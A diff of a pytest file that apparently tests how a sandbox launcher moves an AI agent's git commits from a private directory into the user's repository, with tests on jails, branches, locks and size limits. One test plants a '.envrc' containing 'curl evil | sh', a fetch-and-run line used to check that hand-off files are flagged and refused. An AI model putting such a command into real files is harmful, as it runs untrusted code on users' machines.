@@ -1,20 +1,25 @@
 """Harvest: commits of a private git directory become commits of the main repository, and nothing else does."""
 
+import random
 from pathlib import Path
 
 import pytest
 
-from tests.support import private_git
+from tests.support import private_git, repository
 from tests.support.features import need
+from tests.support.identity import Who
 from tests.support.install import Installed
 from tests.support.private_git import Planted
 from tests.support.repository import Repo
 
 
 @pytest.fixture
-def planted(repo: Repo, installed: Installed, place: Path) -> Planted:
-    """The private git directory of the linked worktree `one`, without submodules."""
+def planted(user: Who, installed: Installed, public_dir: Path) -> Planted:
+    """The private git directory of the linked worktree `one`, without submodules, of an ordinary user."""
     need("landlock")
+    place = public_dir / "harvests"
+    place.mkdir()
+    repo = repository.make(user, user.give(place))
     return private_git.plant(repo, repo.one, installed, place)
 
 
@@ -22,42 +27,193 @@ def planted(repo: Repo, installed: Installed, place: Path) -> Planted:
 def anywhere(request: pytest.FixtureRequest, repo: Repo, installed: Installed, place: Path) -> Planted:
     """The private git directory of a worktree with its submodule: a linked one, and the main checkout."""
     need("landlock")
-    return private_git.plant(repo, repo.one if request.param == "linked" else repo.main, installed, place,
-                             submodule=True)  # fmt: skip
+    worktree = repo.one if request.param == "linked" else repo.main
+    return private_git.plant(repo, worktree, installed, place, submodule=True)
 
 
-def test_a_commit_reaches_the_branch_and_the_worktree_is_clean(anywhere: Planted) -> None:
-    """After a harvest the branch has the agent's commit, and `git status` of the user says clean."""
-    new = anywhere.commit("src/new.py", "print('new')\n")
-    result = anywhere.harvest()
-    assert result["state"] == "harvested", result
-    assert anywhere.host("rev-parse", "HEAD") == new
-    assert anywhere.host("status", "--porcelain") == ""
-    assert result["parts"][0]["commits"] == 1
-    assert anywhere.host("fsck", "--strict", "--no-dangling") == ""
-    assert anywhere.harvest()["state"] == "nothing"
-
-
-def test_commits_of_a_submodule_come_with_it(anywhere: Planted) -> None:
-    """A commit in a submodule and the one that names it arrive together."""
+def test_commits_of_a_worktree_and_its_submodule_arrive_together(anywhere: Planted) -> None:
+    """The branch has the agent's commit, the submodule the one that it names, and `git status` says clean."""
     inner = anywhere.commit("deep.py", "deep = 1\n", at="library")
     new = anywhere.commit("src/uses.py", "import deep\n", link=inner)
     result = anywhere.harvest()
     assert result["state"] == "harvested", result
+    assert [(part["name"], part["commits"], part["files"]) for part in result["parts"]] == [
+        ("", 1, 1),
+        ("library", 1, 1),
+    ]
     assert anywhere.host("rev-parse", "HEAD") == new
     assert anywhere.host("rev-parse", "HEAD", at=anywhere.worktree / "library") == inner
     assert anywhere.host("status", "--porcelain") == ""
+    assert anywhere.host("fsck", "--strict", "--no-dangling") == ""
+    assert anywhere.harvest()["state"] == "nothing"
+
+
+@pytest.mark.parametrize("switch", ["PADDOCK_NO_USERNS", "PADDOCK_NO_LANDLOCK"])
+def test_one_of_namespaces_and_landlock_is_enough(
+    planted: Planted, switch: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The jail that reads the agent's objects holds with either, and without both the work stays where it is."""
+    new = planted.commit("file", "content\n")
+    both = {"PADDOCK_NO_USERNS": "1", "PADDOCK_NO_LANDLOCK": "1"}
+    assert planted.harvest(environment=both)["errorType"] == "harvest-no-jail"
+    assert planted.harvest(environment={switch: "1"})["state"] == "harvested"
+    assert planted.host("rev-parse", "HEAD") == new
 
 
 def test_nothing_new_starts_no_process(planted: Planted) -> None:
     """Without a commit the end of a session reads a few files; with one, a harvest is due until it is done."""
     program = (
-        "import sys; from launcher.vcs.harvest import ending; "
-        "print(ending.due(sys.argv[1]), 'subprocess' in sys.modules)"
+        "import sys; from launcher.vcs.harvest import ending as e; print(e.due(sys.argv[1]), 'json' in sys.modules)"
     )
-    words = [str(planted.installed.python), "-I", "-c", program, str(planted.directory)]
+    words = [
+        str(planted.installed.python),
+        "-I",
+        "-S",
+        "-c",
+        f"import sys; sys.path.append({str(planted.installed.packages)!r}); {program}",
+    ]
+    words.append(str(planted.directory))
     assert planted.who.run(words).stdout == "False False\n"
     planted.commit("file", "content\n")
     assert planted.who.run(words).stdout == "True False\n"
     assert planted.harvest()["state"] == "harvested"
     assert planted.who.run(words).stdout == "False False\n"
+    planted.agent("branch", "other")
+    assert planted.who.run(words).stdout == "True False\n"
+
+
+def test_an_amended_commit_replaces_the_old_one_which_is_kept(planted: Planted) -> None:
+    """History that the agent rewrote moves its own branch, and what was there before has a ref."""
+    planted.commit("file", "one\n")
+    planted.harvest()
+    before = planted.host("rev-parse", "HEAD")
+    (planted.worktree / "file").write_text("two\n")
+    planted.agent("commit", "-q", "-a", "--amend", "-m", "agent: Better.")
+    result = planted.harvest()
+    assert result["state"] == "harvested"
+    assert result["parts"][0]["rewritten"] is True
+    assert planted.host("rev-parse", result["parts"][0]["backup"]) == before
+    assert planted.host("log", "-1", "--format=%s") == "agent: Better."
+    assert planted.host("status", "--porcelain") == ""
+    assert "paddock: harvest" in planted.host("reflog", "-1")
+
+
+def test_a_branch_that_somebody_else_moved_stays_and_the_work_is_kept_beside(planted: Planted) -> None:
+    """When the user committed meanwhile, his branch is not touched; once he has merged, there is nothing left to do."""
+    (planted.worktree / "mine").write_text("mine\n")
+    planted.host("add", "mine")
+    planted.host("commit", "-q", "-m", "user: Mine.")
+    mine = planted.host("rev-parse", "HEAD")
+    new = planted.commit("theirs", "theirs\n")
+    for _ in range(2):
+        result = planted.harvest()
+        assert planted.host("rev-parse", "HEAD") == mine
+        kept = result["parts"][0]["kept"]
+        assert planted.host("rev-parse", kept) == new
+        assert result["state"] == "kept"
+        assert f"git merge {kept}" in result["notes"][0]
+    (planted.worktree / "theirs").unlink()
+    planted.host("merge", "-q", "--no-edit", kept)
+    assert planted.harvest()["state"] == "nothing"
+
+
+def test_a_branch_that_the_agent_has_merged_is_fast_forwarded(planted: Planted) -> None:
+    """The user's commit of meanwhile is no obstacle when the agent's work contains it."""
+    planted.host("commit", "-q", "--allow-empty", "-m", "user: Mine.")
+    mine = planted.host("rev-parse", "HEAD")
+    planted.commit("theirs", "theirs\n")
+    planted.agent("merge", "-q", "--no-edit", mine)
+    assert planted.harvest()["state"] == "harvested"
+    planted.host("merge-base", "--is-ancestor", mine, "HEAD")
+    assert planted.host("status", "--porcelain") == ""
+
+
+def test_further_branches_are_offered_and_taken_by_name(planted: Planted) -> None:
+    """A branch that the agent made stays in the private directory until it is asked for, and never hits another."""
+    planted.agent("checkout", "-q", "-b", "topic")
+    topic = planted.commit("file", "content\n")
+    result = planted.harvest()
+    assert result["state"] == "nothing"
+    assert result["branches"] == ["topic"]
+    assert "HEAD is on topic" in result["notes"][0]
+    taken = planted.harvest(branches={"topic": "agent-topic"})
+    assert taken["state"] == "harvested"
+    assert planted.host("rev-parse", "agent-topic") == topic
+    planted.host("branch", "-f", "two-b", "HEAD")
+    planted.agent("branch", "two-b")
+    assert planted.harvest(branches={"two-b": "two-b"})["errorType"] == "harvest-branch-exists"
+    assert planted.harvest(branches={"none": "none"})["errorType"] == "harvest-branch-unknown"
+    assert planted.harvest(branches={"two-b": "../x"})["errorType"] == "harvest-branch-name"
+
+
+def test_what_the_user_had_staged_stays_staged(planted: Planted) -> None:
+    """The host's index follows the branch, and what was in it beside stays."""
+    (planted.worktree / "README.md").write_text("staged by the user\n")
+    planted.host("add", "README.md")
+    (planted.worktree / "README.md").write_text("edited by the agent\n")
+    (planted.worktree / "other").write_text("other\n")
+    planted.host("add", "--intent-to-add", "other")
+    new = planted.commit("README.md", "committed by the agent\n")
+    assert planted.harvest()["state"] == "harvested"
+    assert planted.host("rev-parse", "HEAD") == new
+    assert planted.host("show", ":README.md") == "staged by the user"
+    assert planted.host("status", "--porcelain").splitlines() == ["MM README.md", " A other"]
+
+
+def test_leftovers_are_never_thrown_away(planted: Planted) -> None:
+    """What the agent did not commit is in the worktree as before, and the user sees it as changes."""
+    planted.commit("file", "committed\n")
+    (planted.worktree / "file").write_text("not committed\n")
+    (planted.worktree / "new").write_text("new\n")
+    planted.harvest()
+    assert planted.host("status", "--porcelain").splitlines() == [" M file", "?? new"]
+    assert (planted.worktree / "file").read_text() == "not committed\n"
+
+
+def test_a_live_session_keeps_the_harvest_waiting(planted: Planted) -> None:
+    """The last session of a worktree harvests: as long as one holds the lock, nothing is touched."""
+    planted.commit("file", "content\n")
+    before = planted.host("rev-parse", "HEAD")
+    lock = planted.directory / "lock"
+    lock.touch()
+    planted.who.give(lock)
+    with planted.who.start(["flock", "--shared", str(lock), "sh", "-c", "echo ready; exec cat"]) as session:
+        assert session.stdout is not None
+        assert session.stdin is not None
+        assert session.stdout.readline() == b"ready\n"
+        assert planted.harvest()["state"] == "busy"
+        assert planted.host("rev-parse", "HEAD") == before
+        session.stdin.close()
+    assert planted.harvest()["state"] == "harvested"
+
+
+def test_hand_off_files_in_commits_are_told_and_refused_when_strict(planted: Planted) -> None:
+    """With --strict-handoff commits that change such files stay in the private directory."""
+    before = planted.host("rev-parse", "HEAD")
+    planted.commit(".envrc", "curl evil | sh\n")
+    refused = planted.harvest(strict=True)
+    assert refused["errorType"] == "handoff-strict"
+    assert "created .envrc" in refused["context"]
+    assert planted.host("rev-parse", "HEAD") == before
+    result = planted.harvest()
+    assert result["state"] == "harvested"
+    assert result["handoff"] == [["created", ".envrc", "report"]]
+
+
+@pytest.mark.parametrize(
+    ("limit", "value"), [("pack", 5000), ("objects", 2), ("blob", 60_000), ("commits", 1)], ids=lambda value: str(value)
+)
+def test_work_beyond_a_limit_stays_where_it_is(planted: Planted, limit: str, value: int) -> None:
+    """Each limit refuses and names the option that widens it; the same work within the limits is taken."""
+    before = planted.host("rev-parse", "HEAD")
+    objects = planted.host("count-objects", "-v")
+    planted.commit("small", "small\n")
+    new = planted.commit("large", random.Random(1).randbytes(70_000).hex())
+    refused = planted.harvest(limits={limit: value})
+    assert refused["errorType"] == "harvest-too-large", refused
+    option = "--max-size" if limit == "pack" else f"--max-{limit}"
+    assert option in refused["hint"]
+    assert planted.host("rev-parse", "HEAD") == before
+    assert planted.host("count-objects", "-v") == objects
+    assert planted.harvest()["state"] == "harvested"
+    assert planted.host("rev-parse", "HEAD") == new
